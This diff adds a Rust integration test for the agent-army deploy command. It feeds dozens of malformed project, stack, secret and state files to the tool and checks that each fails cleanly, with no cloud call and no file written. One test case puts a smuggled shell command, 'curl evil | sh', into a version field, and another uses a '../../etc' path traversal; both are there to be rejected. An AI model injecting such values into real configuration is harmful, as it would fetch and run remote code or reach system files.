@@ -1,0 +1,821 @@
+//! `deploy --yes` on malformed input, against a live moto behind the recording proxy.
+//!
+//! A broader table than bad_input.rs (which checks exact messages of `plan`, `validate` and
+//! `render`): project and stack files, secrets that do not resolve or decrypt, identities and
+//! state files. Every case must exit non-zero with a message naming the file and the field
+//! (or the secret), write nothing, and make no cloud call at all: the proxy's request log
+//! stays empty. A last, valid deploy proves the log does record calls.
+
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use agent_army::env::Env;
+use agent_army::secrets::EncryptTo;
+
+use crate::aws::aws_env;
+use crate::support::servers::Moto;
+use crate::support::{Project, TS_SENTINEL};
+
+const PROJECT: &str = r#"[project]
+name = "demo"
+
+[[agents]]
+name = "agent-pm"
+role = "PM"
+
+[[agents]]
+name = "agent-eng"
+role = "Engineer"
+"#;
+
+const STACK: &str = r#"provider = "aws"
+region = "eu-central-1"
+instance_type = "t3.medium"
+tailnet = "tail1.ts.net"
+age_recipients = ["@RECIPIENT@"]
+
+[aws]
+metadata_hop_limit = 1
+
+[secrets]
+tailscale_auth_key = "env:TS_AUTHKEY"
+ANTHROPIC_API_KEY = "env:ANTHROPIC_API_KEY"
+"#;
+
+const PF: &str = "agent-army.toml";
+const SF: &str = "stacks/dev.toml";
+const STATE: &str = ".agent-army/state/dev.json";
+
+/// Exit codes (README "Exit codes").
+const CONFIG: i32 = 3;
+const SECRETS: i32 = 4;
+
+struct Case {
+    name: &'static str,
+    project: String,
+    stack: String,
+    /// Other files to write first (path, text).
+    files: Vec<(&'static str, String)>,
+    /// Environment changes: `None` removes the variable.
+    env: Vec<(&'static str, Option<String>)>,
+    stack_name: &'static str,
+    /// Raw bytes for the stack file instead of `stack`.
+    stack_bytes: Option<Vec<u8>>,
+    code: i32,
+    /// Text stderr must contain, e.g. the secret's name.
+    expect: Vec<String>,
+    /// A diagnostic line stderr must hold: `error: <file>:<line>:<col>: `<field>`: ...`.
+    diag: Option<(&'static str, String)>,
+}
+
+fn case(name: &'static str, project: String, stack: String, code: i32, expect: &[&str]) -> Case {
+    Case {
+        name,
+        project,
+        stack,
+        files: vec![],
+        env: vec![],
+        stack_name: "dev",
+        stack_bytes: None,
+        code,
+        expect: expect.iter().map(|s| s.to_string()).collect(),
+        diag: None,
+    }
+}
+
+/// A project-file case: the file, and the field in backticks.
+fn pcase(name: &'static str, project: String, field: &str) -> Case {
+    let mut c = case(name, project, STACK.into(), CONFIG, &[]);
+    c.diag = Some((PF, field.to_string()));
+    c
+}
+
+/// A stack-file case.
+fn scase(name: &'static str, stack: String, field: &str) -> Case {
+    let mut c = case(name, PROJECT.into(), stack, CONFIG, &[]);
+    c.diag = Some((SF, field.to_string()));
+    c
+}
+
+/// A case whose secret cannot be resolved: stderr names the secret.
+fn secret_case(name: &'static str, stack: String, secret: &str) -> Case {
+    case(
+        name,
+        PROJECT.into(),
+        stack,
+        SECRETS,
+        &[&format!("error: secret `{secret}`")],
+    )
+}
+
+/// A case about the state file.
+fn state_case(name: &'static str, state: &str, code: i32, expect: &[&str]) -> Case {
+    let mut c = case(name, PROJECT.into(), STACK.into(), code, expect);
+    c.files.push((STATE, state.to_string()));
+    c
+}
+
+fn with_secret(name: &str, value: &str) -> String {
+    STACK.replace(
+        "ANTHROPIC_API_KEY = \"env:ANTHROPIC_API_KEY\"\n",
+        &format!("ANTHROPIC_API_KEY = \"env:ANTHROPIC_API_KEY\"\n{name} = {value}\n"),
+    )
+}
+
+/// The project with a `[defaults]` table before the agents.
+fn with_defaults(body: &str) -> String {
+    PROJECT.replacen(
+        "[[agents]]",
+        &format!("[defaults]\n{body}\n\n[[agents]]"),
+        1,
+    )
+}
+
+fn agent_pm(extra: &str) -> String {
+    PROJECT.replace("role = \"PM\"\n", &format!("role = \"PM\"\n{extra}\n"))
+}
+
+/// A valid state file of this project with one gateway key.
+fn state_with_key(armor: &str) -> String {
+    serde_json::json!({
+        "version": 1, "project": "demo", "stack": "dev", "provider": "aws", "serial": 3,
+        "agents": {}, "gateway_keys": {"agent-pm": armor},
+    })
+    .to_string()
+}
+
+fn cases() -> Vec<Case> {
+    let p = PROJECT.to_string();
+    let s = STACK.to_string();
+    let mut v = vec![
+        // ---- agent-army.toml ----
+        pcase(
+            "wrong type: disk_gb is a string",
+            agent_pm("disk_gb = \"big\""),
+            "agents.disk_gb",
+        ),
+        pcase(
+            "wrong type: negative disk_gb",
+            agent_pm("disk_gb = -1"),
+            "agents.disk_gb",
+        ),
+        pcase(
+            "wrong type: project name is a number",
+            p.replace("name = \"demo\"", "name = 42"),
+            "project.name",
+        ),
+        pcase(
+            "wrong type: role is an array",
+            p.replace("role = \"PM\"", "role = [\"PM\"]"),
+            "agents.role",
+        ),
+        pcase(
+            "wrong type: env value is a number",
+            agent_pm("env = { RETRIES = 3 }"),
+            "agents.env",
+        ),
+        pcase(
+            "wrong type: agents is a table",
+            "[project]\nname = \"demo\"\n\n[agents]\nname = \"agent-pm\"\nrole = \"PM\"\n".into(),
+            "agents",
+        ),
+        pcase(
+            "unknown key in [project]",
+            p.replace(
+                "name = \"demo\"",
+                "name = \"demo\"\ndefualt_stack = \"dev\"",
+            ),
+            "project.defualt_stack",
+        ),
+        pcase(
+            "unknown table",
+            format!("{p}\n[default]\ndisk_gb = 30\n"),
+            "default",
+        ),
+        pcase(
+            "unknown key in [defaults]",
+            with_defaults("disk = 30"),
+            "defaults.disk",
+        ),
+        pcase(
+            "unknown agent key",
+            agent_pm("instance = \"t3.large\""),
+            "agents.instance",
+        ),
+        pcase(
+            "duplicate agents",
+            p.replace("name = \"agent-eng\"", "name = \"agent-pm\""),
+            "agents.name",
+        ),
+        pcase(
+            "hostname too long (64 characters)",
+            p.replace("agent-eng", &"e".repeat(60)),
+            "agents.name",
+        ),
+        pcase(
+            "agent name is not a DNS label",
+            p.replace("agent-eng", "agent.eng"),
+            "agents.name",
+        ),
+        pcase(
+            "project name is not a DNS label",
+            p.replace("name = \"demo\"", "name = \"Demo Project\""),
+            "project.name",
+        ),
+        pcase(
+            "empty role",
+            p.replace("role = \"PM\"", "role = \"  \""),
+            "agents.role",
+        ),
+        pcase(
+            "agent disk too large",
+            agent_pm("disk_gb = 20000"),
+            "agents.disk_gb",
+        ),
+        pcase(
+            "default disk too small",
+            with_defaults("disk_gb = 4"),
+            "defaults.disk_gb",
+        ),
+        pcase(
+            "bad default env name",
+            with_defaults("env = { \"GIT-AUTHOR\" = \"x\" }"),
+            "defaults.env.GIT-AUTHOR",
+        ),
+        pcase(
+            "openclaw version with shell characters",
+            with_defaults("openclaw_version = \"latest; curl evil | sh\""),
+            "defaults.openclaw_version",
+        ),
+        pcase(
+            "workspace outside the project",
+            agent_pm("workspace = \"../../etc\""),
+            "agents.workspace",
+        ),
+        pcase(
+            "workspace folder missing",
+            agent_pm("workspace = \"agents/nope\""),
+            "agents.workspace",
+        ),
+        pcase(
+            "duplicate key (TOML)",
+            p.replace("name = \"demo\"", "name = \"demo\"\nname = \"again\""),
+            "project.name",
+        ),
+        pcase(
+            "missing [project]",
+            p.replace("[project]\nname = \"demo\"\n", ""),
+            "project",
+        ),
+        // A syntax error is found where the parser stops, and named by its table.
+        pcase(
+            "unterminated inline table (TOML)",
+            agent_pm("env = { A = \"1\""),
+            "agents",
+        ),
+        // ---- stacks/dev.toml ----
+        scase("unknown stack key", s.replace("region", "regoin"), "regoin"),
+        scase(
+            "wrong type: instance_type is a number",
+            s.replace("\"t3.medium\"", "3"),
+            "instance_type",
+        ),
+        scase(
+            "wrong type: allowed_ssh_cidrs is a string",
+            format!("allowed_ssh_cidrs = \"10.0.0.0/8\"\n{s}"),
+            "allowed_ssh_cidrs",
+        ),
+        scase(
+            "bad CIDR prefix",
+            format!("allowed_ssh_cidrs = [\"10.0.0.0/33\"]\n{s}"),
+            "allowed_ssh_cidrs",
+        ),
+        scase(
+            "bad CIDR: a host name",
+            format!("allowed_ssh_cidrs = [\"203.0.113.7/32\", \"example.com/32\"]\n{s}"),
+            "allowed_ssh_cidrs",
+        ),
+        scase(
+            "bad CIDR: no prefix",
+            format!("allowed_ssh_cidrs = [\"203.0.113.7\"]\n{s}"),
+            "allowed_ssh_cidrs",
+        ),
+        scase(
+            "hop limit out of range",
+            s.replace("metadata_hop_limit = 1", "metadata_hop_limit = 0"),
+            "aws.metadata_hop_limit",
+        ),
+        scase(
+            "not a subnet id",
+            s.replace("metadata_hop_limit = 1", "subnet_id = \"vpc-0abc\""),
+            "aws.subnet_id",
+        ),
+        scase(
+            "unknown key in [aws]",
+            s.replace("metadata_hop_limit = 1", "metadata_hops = 1"),
+            "aws.metadata_hops",
+        ),
+        scase(
+            "Hetzner key on an AWS stack",
+            s.replace(
+                "region = \"eu-central-1\"",
+                "region = \"eu-central-1\"\nlocation = \"fsn1\"",
+            ),
+            "location",
+        ),
+        scase(
+            "missing region",
+            s.replace("region = \"eu-central-1\"\n", ""),
+            "region",
+        ),
+        scase(
+            "empty region",
+            s.replace("\"eu-central-1\"", "\"\""),
+            "region",
+        ),
+        scase(
+            "unknown provider",
+            s.replace("\"aws\"", "\"gcp\""),
+            "provider",
+        ),
+        scase("empty stack file", String::new(), "provider"),
+        scase("bad tailnet", s.replace("tail1.ts.net", "tail1"), "tailnet"),
+        scase(
+            "bad age recipient",
+            s.replace("[\"@RECIPIENT@\"]", "[\"age1notakey\"]"),
+            "age_recipients",
+        ),
+        scase(
+            "plaintext secret",
+            s.replace("\"env:ANTHROPIC_API_KEY\"", "\"sk-ant-plaintext\""),
+            "secrets.ANTHROPIC_API_KEY",
+        ),
+        scase(
+            "env: reference with a bad variable name",
+            s.replace("\"env:ANTHROPIC_API_KEY\"", "\"env:1API\""),
+            "secrets.ANTHROPIC_API_KEY",
+        ),
+        scase(
+            "lowercase secret name",
+            s.replace("ANTHROPIC_API_KEY =", "anthropic_api_key ="),
+            "secrets.anthropic_api_key",
+        ),
+        scase(
+            "secret is not a string",
+            s.replace("\"env:ANTHROPIC_API_KEY\"", "42"),
+            "secrets.ANTHROPIC_API_KEY",
+        ),
+        scase(
+            "missing tailscale_auth_key",
+            s.replace("tailscale_auth_key = \"env:TS_AUTHKEY\"\n", ""),
+            "secrets.tailscale_auth_key",
+        ),
+        scase(
+            "half an OAuth client",
+            s.replace(
+                "tailscale_auth_key = \"env:TS_AUTHKEY\"",
+                "tailscale_oauth_client_id = \"env:TS_ID\"",
+            ),
+            "secrets",
+        ),
+        scase(
+            "secrets for an unknown agent",
+            format!("{s}\n[agent_secrets.agent-qa]\nGITHUB_TOKEN = \"env:GH\"\n"),
+            "agent_secrets.agent-qa",
+        ),
+        scase(
+            "stack-wide secret given to one agent",
+            format!("{s}\n[agent_secrets.agent-pm]\ntailscale_auth_key = \"env:TS_AUTHKEY\"\n"),
+            "agent_secrets.agent-pm.tailscale_auth_key",
+        ),
+        scase(
+            "bad Tailscale tag",
+            format!("{s}\n[tailscale]\ntags = [\"tag:\"]\n"),
+            "tailscale.tags",
+        ),
+        scase(
+            "TOML syntax: unterminated string",
+            s.replace("\"t3.medium\"", "\"t3.medium"),
+            "instance_type",
+        ),
+    ];
+    // The stack file is not UTF-8.
+    let mut c = case(
+        "stack file is not UTF-8",
+        p.clone(),
+        String::new(),
+        CONFIG,
+        &[SF, "valid UTF-8"],
+    );
+    c.stack_bytes = Some(b"provider = \"aws\"\n\xff\xfe\n".to_vec());
+    v.push(c);
+    // The selected stack does not exist.
+    let mut c = case(
+        "unknown stack",
+        p.clone(),
+        s.clone(),
+        CONFIG,
+        &["stacks/staging.toml", "`staging`"],
+    );
+    c.stack_name = "staging";
+    v.push(c);
+
+    // ---- secrets that do not resolve ----
+    let mut c = secret_case("env: variable unset", s.clone(), "ANTHROPIC_API_KEY");
+    c.env.push(("ANTHROPIC_API_KEY", None));
+    c.expect.push("`ANTHROPIC_API_KEY` is not set".into());
+    v.push(c);
+    let mut c = secret_case(
+        "per-agent env: variable unset",
+        format!("{s}\n[agent_secrets.agent-eng]\nGITHUB_TOKEN = \"env:ENG_GITHUB_TOKEN\"\n"),
+        "GITHUB_TOKEN",
+    );
+    c.expect.push("`ENG_GITHUB_TOKEN` is not set".into());
+    v.push(c);
+    let mut c = secret_case(
+        "auth key env: variable unset",
+        s.clone(),
+        "tailscale_auth_key",
+    );
+    c.env.push(("TS_AUTHKEY", None));
+    v.push(c);
+    v.push(secret_case(
+        "corrupt armor: truncated",
+        with_secret("GITHUB_TOKEN", "@ENC_TRUNCATED@"),
+        "GITHUB_TOKEN",
+    ));
+    v.push(secret_case(
+        "corrupt armor: damaged header",
+        with_secret("GITHUB_TOKEN", "@ENC_BAD_HEADER@"),
+        "GITHUB_TOKEN",
+    ));
+    v.push(secret_case(
+        "corrupt armor: damaged payload",
+        with_secret("GITHUB_TOKEN", "@ENC_BAD_PAYLOAD@"),
+        "GITHUB_TOKEN",
+    ));
+    v.push(secret_case(
+        "armor with only BEGIN",
+        with_secret("GITHUB_TOKEN", "\"-----BEGIN AGE ENCRYPTED FILE-----\""),
+        "GITHUB_TOKEN",
+    ));
+    let mut c = secret_case(
+        "wrong identity",
+        s.replace("\"env:TS_AUTHKEY\"", "@ENC_OTHER@"),
+        "tailscale_auth_key",
+    );
+    c.expect
+        .push("none of the available identities can decrypt it".into());
+    v.push(c);
+    let mut c = secret_case(
+        "identity file missing",
+        with_secret("GITHUB_TOKEN", "@ENC@"),
+        "GITHUB_TOKEN",
+    );
+    c.env.push((
+        "AGENT_ARMY_IDENTITY",
+        Some("/nonexistent/identity.txt".into()),
+    ));
+    c.expect.push("/nonexistent/identity.txt".into());
+    v.push(c);
+    let mut c = secret_case(
+        "identity file is not an identity",
+        with_secret("GITHUB_TOKEN", "@ENC@"),
+        "GITHUB_TOKEN",
+    );
+    c.files.push((
+        ".home/garbage-identity.txt",
+        "AGE-SECRET-KEY-1NOTAKEY\n".into(),
+    ));
+    c.env.push((
+        "AGENT_ARMY_IDENTITY",
+        Some("@DIR@/.home/garbage-identity.txt".into()),
+    ));
+    v.push(c);
+    v.push(secret_case(
+        "passphrase-encrypted without AGENT_ARMY_PASSPHRASE",
+        with_secret("GITHUB_TOKEN", "@ENC_PASSPHRASE@"),
+        "GITHUB_TOKEN",
+    ));
+    let mut c = secret_case(
+        "wrong passphrase",
+        with_secret("GITHUB_TOKEN", "@ENC_PASSPHRASE@"),
+        "GITHUB_TOKEN",
+    );
+    c.env
+        .push(("AGENT_ARMY_PASSPHRASE", Some("not the passphrase".into())));
+    v.push(c);
+    v.push(secret_case(
+        "decrypts to non-UTF-8",
+        with_secret("GITHUB_TOKEN", "@ENC_BINARY@"),
+        "GITHUB_TOKEN",
+    ));
+    // A stack without recipients has nothing to encrypt new gateway keys to.
+    let mut c = secret_case(
+        "no recipients and no passphrase for new gateway keys",
+        s.replace("age_recipients = [\"@RECIPIENT@\"]\n", ""),
+        "gateway keys",
+    );
+    c.expect.push("age_recipients".into());
+    v.push(c);
+
+    // ---- state files ----
+    let state = STATE;
+    v.push(state_case(
+        "truncated state file",
+        r#"{"version": 1, "project": "demo", "stack": "d"#,
+        CONFIG,
+        &[state, "is damaged"],
+    ));
+    v.push(state_case(
+        "empty state file",
+        "",
+        CONFIG,
+        &[state, "is damaged"],
+    ));
+    v.push(state_case(
+        "state file from a newer version",
+        r#"{"version": 2, "project": "demo", "stack": "dev", "new_field": {}}"#,
+        CONFIG,
+        &[state, "has version 2"],
+    ));
+    v.push(state_case(
+        "state file without required fields",
+        r#"{"version": 1}"#,
+        CONFIG,
+        &[state, "is damaged", "`project`"],
+    ));
+    v.push(state_case(
+        "state field of the wrong type",
+        r#"{"version": 1, "project": "demo", "stack": "dev", "provider": "aws", "serial": "three"}"#,
+        CONFIG,
+        &[state, "is damaged", "`serial`"],
+    ));
+    v.push(state_case(
+        "state of another project",
+        r#"{"version": 1, "project": "other", "stack": "dev", "provider": "aws", "serial": 1}"#,
+        CONFIG,
+        &[state, "belongs to other/dev"],
+    ));
+    v.push(state_case(
+        "gateway key in state for another identity",
+        &state_with_key("@ARMOR_OTHER@"),
+        SECRETS,
+        &[
+            "secret `gateway key of agent-pm`",
+            "none of the available identities",
+        ],
+    ));
+    v.push(state_case(
+        "gateway key in state is damaged",
+        &state_with_key("@ARMOR_TRUNCATED@"),
+        SECRETS,
+        &["secret `gateway key of agent-pm`"],
+    ));
+    v.push(state_case(
+        "gateway key in state is not a key",
+        &state_with_key("@ARMOR_NOT_A_SEED@"),
+        SECRETS,
+        &["secret `gateway key of agent-pm`"],
+    ));
+    v
+}
+
+/// Armored age values for one project, and the placeholders that stand for them.
+struct Armors {
+    pairs: Vec<(&'static str, String)>,
+}
+
+fn encrypt_to(recipient: &str, plaintext: &[u8]) -> String {
+    EncryptTo::for_stack(&[recipient.to_string()], &Env::default())
+        .unwrap()
+        .encrypt(plaintext)
+        .unwrap()
+}
+
+/// A fresh X25519 recipient nobody in the test holds the identity of.
+fn stranger() -> String {
+    agent_army::secrets::generate_identity().1
+}
+
+impl Armors {
+    fn new(p: &Project) -> Self {
+        let good = encrypt_to(&p.public_key, TS_SENTINEL.as_bytes());
+        let lines: Vec<&str> = good.lines().collect();
+        // Drop the last line of the body, keep BEGIN and END.
+        let mut truncated = lines.clone();
+        truncated.remove(lines.len() - 2);
+        let truncated = truncated.join("\n") + "\n";
+        // Flip a character of the first body line (the age header).
+        let bad_header = {
+            let mut l = lines.clone();
+            let flipped = flip(l[1]);
+            l[1] = &flipped;
+            l.join("\n") + "\n"
+        };
+        // Flip a character of the last body line (the payload).
+        let bad_payload = {
+            let mut l = lines.clone();
+            let n = l.len() - 2;
+            let flipped = flip(l[n]);
+            l[n] = &flipped;
+            l.join("\n") + "\n"
+        };
+        // scrypt takes about a second: made once for all cases.
+        static PASSPHRASE: OnceLock<String> = OnceLock::new();
+        let passphrase = PASSPHRASE.get_or_init(|| {
+            EncryptTo::for_stack(
+                &[],
+                &Env::from_pairs([("AGENT_ARMY_PASSPHRASE", "correct horse")]),
+            )
+            .unwrap()
+            .encrypt(b"value")
+            .unwrap()
+        });
+        let other = encrypt_to(&stranger(), TS_SENTINEL.as_bytes());
+        let binary = encrypt_to(&p.public_key, &[0xff, 0xfe, 0x00, 0x80]);
+        let not_a_seed = encrypt_to(&p.public_key, b"not hex at all");
+        let toml = |a: &str| format!("\"\"\"\n{a}\"\"\"");
+        Armors {
+            pairs: vec![
+                ("@ENC@", toml(&good)),
+                ("@ENC_TRUNCATED@", toml(&truncated)),
+                ("@ENC_BAD_HEADER@", toml(&bad_header)),
+                ("@ENC_BAD_PAYLOAD@", toml(&bad_payload)),
+                ("@ENC_PASSPHRASE@", toml(passphrase)),
+                ("@ENC_OTHER@", toml(&other)),
+                ("@ENC_BINARY@", toml(&binary)),
+                // JSON string contents (state files).
+                ("@ARMOR_OTHER@", json_inner(&other)),
+                ("@ARMOR_TRUNCATED@", json_inner(&truncated)),
+                ("@ARMOR_NOT_A_SEED@", json_inner(&not_a_seed)),
+            ],
+        }
+    }
+
+    fn fill(&self, p: &Project, text: &str) -> String {
+        let mut t = text
+            .replace("@RECIPIENT@", &p.public_key)
+            .replace("@DIR@", &p.path().display().to_string());
+        for (k, v) in &self.pairs {
+            t = t.replace(k, v);
+        }
+        t
+    }
+}
+
+/// A string as it appears between the quotes of a JSON string.
+fn json_inner(s: &str) -> String {
+    let q = serde_json::to_string(s).unwrap();
+    q[1..q.len() - 1].to_string()
+}
+
+/// The same line with one base64 character changed.
+fn flip(line: &str) -> String {
+    let mut c: Vec<char> = line.chars().collect();
+    let i = c.len() / 2;
+    c[i] = if c[i] == 'A' { 'B' } else { 'A' };
+    c.into_iter().collect()
+}
+
+/// With `AGENT_ARMY_FUZZ_SEEDS=DIR`, each case's two files become a seed of the fuzz target
+/// (`<project>\0<stack>`, see fuzz/fuzz_targets/stack_files.rs); tests/fixtures/fuzz-corpus
+/// was made so.
+fn write_seed(dir: &Path, name: &str, p: &Project) {
+    let slug: String = name
+        .chars()
+        .map(|c| {
+            if c.is_ascii_alphanumeric() {
+                c.to_ascii_lowercase()
+            } else {
+                '-'
+            }
+        })
+        .collect();
+    let mut seed = std::fs::read(p.path().join(PF)).unwrap_or_default();
+    seed.push(0);
+    seed.extend(std::fs::read(p.path().join(SF)).unwrap_or_default());
+    std::fs::create_dir_all(dir).unwrap();
+    std::fs::write(dir.join(format!("malformed-{slug}")), seed).unwrap();
+}
+
+/// Every file under `dir` with its bytes, except the HOME folder.
+fn snapshot(p: &Project) -> Vec<(PathBuf, Vec<u8>)> {
+    let mut v: Vec<_> = p
+        .all_files()
+        .into_iter()
+        .filter(|(path, _)| !path.starts_with(&p.home))
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn malformed_input_fails_before_any_cloud_call() {
+    let moto = Moto::start();
+    let cases = cases();
+    let count = cases.len();
+    let mut failures = Vec::new();
+    for c in &cases {
+        let p = Project::empty();
+        let armors = Armors::new(&p);
+        p.write(PF, &armors.fill(&p, &c.project));
+        p.write(SF, &armors.fill(&p, &c.stack));
+        for (path, text) in &c.files {
+            p.write(path, &armors.fill(&p, text));
+        }
+        if let Some(bytes) = &c.stack_bytes {
+            std::fs::write(p.path().join(SF), bytes).unwrap();
+        }
+        if let Ok(dir) = std::env::var("AGENT_ARMY_FUZZ_SEEDS") {
+            write_seed(Path::new(&dir), c.name, &p);
+        }
+        let before = snapshot(&p);
+        let mut run = aws_env(p.run(), &moto).args(["-s", c.stack_name, "deploy", "--yes"]);
+        for (k, v) in &c.env {
+            run = match v {
+                Some(v) => run.env(k, armors.fill(&p, v)),
+                None => run.env_remove(k),
+            };
+        }
+        let out = run.run();
+        let mut problems = Vec::new();
+        if out.code != c.code {
+            problems.push(format!("exit {} (expected {})", out.code, c.code));
+        }
+        for e in &c.expect {
+            if !out.stderr.contains(e.as_str()) {
+                problems.push(format!("stderr lacks {e:?}"));
+            }
+        }
+        if let Some((file, field)) = &c.diag {
+            let prefix = format!("error: {file}:");
+            let named = format!(": `{field}`: ");
+            let hit = out
+                .stderr
+                .lines()
+                .any(|l| l.starts_with(&prefix) && l.contains(&named));
+            if !hit {
+                problems.push(format!("no line `{prefix}<line>:<col>{named}...`"));
+            }
+        }
+        if out.stderr.contains(TS_SENTINEL) || out.stdout.contains(TS_SENTINEL) {
+            problems.push("the auth key's plaintext is in the output".into());
+        }
+        // Nothing written but the lock file.
+        let after: Vec<_> = snapshot(&p)
+            .into_iter()
+            .filter(|(path, _)| !path.starts_with(p.path().join(".agent-army/locks")))
+            .collect();
+        if after != before {
+            let names = |v: &[(PathBuf, Vec<u8>)]| {
+                v.iter()
+                    .map(|(p, _)| p.display().to_string())
+                    .collect::<Vec<_>>()
+            };
+            problems.push(format!(
+                "files changed: before {:?}, after {:?}",
+                names(&before),
+                names(&after)
+            ));
+        }
+        println!(
+            "[{}] exit {}: {}",
+            c.name,
+            out.code,
+            out.stderr.lines().next().unwrap_or("")
+        );
+        let actions = moto.actions();
+        if !actions.is_empty() {
+            problems.push(format!("cloud calls were made: {actions:?}"));
+            moto.reset_log();
+        }
+        if !problems.is_empty() {
+            failures.push(format!(
+                "case `{}`: {}\nstdout:\n{}\nstderr:\n{}",
+                c.name,
+                problems.join("; "),
+                out.stdout,
+                out.stderr
+            ));
+        }
+    }
+    println!("malformed input: {count} cases, {} failed", failures.len());
+    assert!(count >= 30, "only {count} cases");
+    assert!(failures.is_empty(), "{}", failures.join("\n---\n"));
+
+    // Control: the same harness on a valid project does reach the cloud, so an empty
+    // request log above means something.
+    let p = Project::empty();
+    p.write(PF, PROJECT);
+    p.write(SF, &STACK.replace("@RECIPIENT@", &p.public_key));
+    aws_env(p.run(), &moto)
+        .args(["-s", "dev", "deploy", "--yes"])
+        .run()
+        .success();
+    let actions = moto.actions();
+    assert!(
+        actions.iter().any(|a| a == "RunInstances"),
+        "the control deploy made no RunInstances: {actions:?}"
+    );
+}
